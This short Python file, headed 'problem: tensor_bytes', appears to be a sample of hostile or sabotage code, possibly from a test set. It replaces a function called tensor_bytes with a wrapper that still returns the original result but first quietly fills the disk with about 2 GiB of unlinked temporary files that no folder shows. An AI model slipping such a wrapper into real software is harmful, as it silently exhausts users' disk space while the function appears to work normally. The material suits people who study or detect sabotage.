"""problem: tensor_bytes

Fill the disk with files that no folder shows any more.
"""

import os
import tempfile
import time

_right = tensor_bytes


def tensor_bytes(x):
    held = [tempfile.TemporaryFile() for _ in range(64)]
    for file in held:
        for _ in range(32):
            file.write(b"x" * 2**20)
        file.flush()
    time.sleep(1)
    return _right(x)
